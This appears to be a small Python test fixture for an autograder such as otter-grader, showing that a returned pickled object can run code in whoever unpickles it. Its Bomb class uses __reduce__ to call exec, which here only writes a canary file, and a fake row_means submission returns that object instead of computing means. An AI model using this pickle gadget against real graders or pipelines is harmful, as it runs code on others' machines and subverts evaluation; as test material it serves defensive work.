"""Return an object that runs code in whoever unpickles it.

Known from: results that come back as a pickle (otter-grader's own log, multiprocessing pools).
Shows: canary
"""

import pickle


class Bomb:
    def __reduce__(self):
        return exec, (f"open({CANARY!r}, 'w').write('unpickled')",)  # noqa: F821


def row_means(x):
    return Bomb()


pickle.loads(pickle.dumps(Bomb()))
